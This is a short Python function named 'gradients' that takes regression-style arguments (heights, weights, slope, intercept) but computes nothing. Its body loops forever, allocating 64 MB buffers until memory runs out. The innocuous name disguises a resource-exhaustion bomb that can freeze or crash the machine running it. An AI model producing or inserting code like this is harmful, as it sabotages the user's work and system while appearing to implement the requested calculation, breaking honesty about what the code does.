def gradients(heights, weights, slope, intercept):
    kept = []
    while True:
        kept.append(bytearray(64 * 1024 * 1024))
